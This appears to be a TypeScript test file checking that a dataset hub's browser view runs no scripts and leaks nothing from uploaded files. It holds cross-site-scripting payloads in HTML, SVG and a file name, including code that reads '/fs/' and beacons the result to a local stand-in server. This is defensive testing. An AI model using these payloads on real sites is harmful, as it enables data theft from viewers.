/** Content of datasets that attacks whoever looks at it, met by a browser. */
import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import fs from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import path from "node:path";
import { after, before, describe, it } from "node:test";
import { promisify } from "node:util";
import { temporaryFolder } from "../../src/dataset/testing/folder.ts";
import { connect } from "../../src/sdk/index.ts";
import { requirePeer } from "../peers.ts";
import { openHub, type TestHub } from "./test-hub.ts";

const run = promisify(execFile);

let hub: TestHub;
let folder: ReturnType<typeof temporaryFolder>;
let heard: string[];
let pages: Map<string, string>;
let elsewhere: { readonly url: string; readonly close: () => void };

before(async () => {
  folder = temporaryFolder();
  heard = [];
  pages = new Map();
  const server = createServer((request, response) => {
    const { url = "" } = request;
    const page = pages.get(url);
    if (page === undefined) heard.push(url);
    response.writeHead(200, { "content-type": "text/html", "access-control-allow-origin": "*" });
    response.end(page);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  const close = (): void => {
    server.closeAllConnections();
    server.close();
  };
  elsewhere = { url: `http://127.0.0.1:${port}`, close };
  hub = await openHub();
});
after(async () => {
  await hub.close();
  elsewhere.close();
  folder.remove();
});

/** What tells elsewhere, under its name, that it ran, loaded or sent something. */
function scriptOf(name: string): string {
  const tell = (what: string): string => `new Image().src="${elsewhere.url}/${what}/${name}"`;
  return `${tell("ran")};fetch("/fs/").then(r=>r.text()).then(t=>{${tell("read")}+"?"+t.length})`;
}

function htmlOf(name: string): string {
  const at = (what: string): string => `${elsewhere.url}/${what}/${name}`;
  return `<!doctype html><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title>
<link rel="stylesheet" href="${at("style")}"/><script>${scriptOf(name).replaceAll("&", "&amp;").replaceAll("=>", "=&gt;")}</script>
<script>${scriptOf(name)}</script></head>
<body><img src="${at("image")}" onerror="${tellOf(name)}"/><svg onload="${tellOf(name)}"></svg>
<form action="${at("form")}" id="f"><input autofocus="autofocus" onfocus="${tellOf(name)}"/></form>
<iframe src="${at("frame")}"></iframe><object data="${at("object")}"></object><a href="${at("link")}">link</a></body></html>`;
}

function tellOf(name: string): string {
  return `new Image().src='${elsewhere.url}/event/${name}'`;
}

function svgOf(name: string): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" onload="${tellOf(name)}"><script>${tellOf(name)}</script>
<image href="${elsewhere.url}/image/${name}"/><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="${elsewhere.url}/image/${name}"/></body></foreignObject></svg>`;
}

const HTML_NAMES = [
  ...["page.html", "page.HTM", "page.html5", "page.shtml", "page.xhtml", "page.xht", "page.xml", "page.svg"],
  ...[
    "page.txt",
    "page.css",
    "page.js",
    "page.json",
    "page.jpg",
    "page.png",
    "page.pdf",
    "page.mht",
    "page.mhtml",
  ],
  ...[
    "page",
    "page.bin",
    "page.csv",
    "page.webmanifest",
    "page.rss",
    "page.xsl",
    "page.swf",
    "page.eml",
    ".html",
  ],
];

describe("a browser that shows what datasets hold", () => {
  it("runs nothing of it, loads nothing for it, and sends nothing for it", async (t) => {
    if (!requirePeer(t, "chromium")) return;
    const source = path.join(folder.path, "source");
    fs.mkdirSync(source);
    for (const name of HTML_NAMES) fs.writeFileSync(path.join(source, name), htmlOf(name));
    for (const name of ["image.svg", "image.svgz", "image.xml"])
      fs.writeFileSync(path.join(source, name), svgOf(name));
    const client = connect(hub.host, { cacheDir: path.join(folder.path, "cache") });
    try {
      await hub.push(client, source, ["evil:one"]);
    } finally {
      await client.close();
    }
    const names = [...HTML_NAMES, "image.svg", "image.svgz", "image.xml"];
    const frames = names.map((name) => `<iframe src="${hub.url}/fs/evil/one/${name}"></iframe>`);
    pages.set("/control", htmlOf("control"));
    pages.set("/", `${frames.join("")}<iframe src="/control"></iframe>`);
    await browse(`${elsewhere.url}/`);
    const control = heard.filter((url) => url.includes("/control"));
    for (const what of ["ran", "read", "style", "image", "event", "frame"]) {
      assert.ok(
        control.some((url) => url.startsWith(`/${what}/`)),
        `where nothing forbids it: ${what}`,
      );
    }
    const others = heard.filter((url) => names.some((name) => url.split("?", 1).join().endsWith(`/${name}`)));
    assert.deepEqual(others, []);
  });

  it("shows lists with every name as it is, and runs nothing that a name says", async (t) => {
    if (!requirePeer(t, "chromium")) return;
    const source = path.join(folder.path, "names");
    fs.mkdirSync(source);
    const name = `<img src=x onerror="document.title='ran'">&lt;'"`;
    fs.writeFileSync(path.join(source, name), "x");
    const client = connect(hub.host, { cacheDir: path.join(folder.path, "cache") });
    try {
      await hub.push(client, source, ["names:one"]);
    } finally {
      await client.close();
    }
    const shown = await browse(`${hub.url}/fs/names/one/`);
    assert.match(shown, /<title>names:one\/<\/title>/);
    assert.match(shown, /&lt;img src=x onerror=/);
  });
});

/** The page as it is once all has been loaded and run. */
async function browse(url: string): Promise<string> {
  const profile = path.join(folder.path, "profile");
  const words = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-dev-shm-usage",
    `--user-data-dir=${profile}`,
  ];
  words.push("--virtual-time-budget=10000", "--dump-dom", url);
  const { stdout } = await run("chromium", words, { env: { ...process.env, HOME: folder.path } });
  return stdout;
}
